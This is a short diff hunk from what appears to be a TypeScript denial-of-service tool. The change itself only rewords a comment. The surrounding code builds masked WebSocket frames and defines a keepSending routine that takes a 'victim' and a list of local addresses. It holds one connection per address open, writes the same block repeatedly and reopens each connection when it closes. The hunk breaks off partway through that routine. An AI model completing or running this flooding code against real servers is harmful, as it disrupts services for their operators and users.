@@ -61,7 +61,7 @@ function frame(opcode: number, payload: string): Buffer {
   return Buffer.concat([Buffer.from([0x80 | opcode, 0x80 | payload.length, 0, 0, 0, 0]), Buffer.from(payload)]);
 }
 
-/** One connection for each address: it writes the block again and again, and is opened anew when it ends. */
+/** One connection for each address: it writes the block again and again, and is opened again when it ends. */
 async function keepSending({ victim, addresses, signal }: AttackOptions, block: Buffer): Promise<number> {
   let acts = 0;
   const one = async (localAddress: string) => {
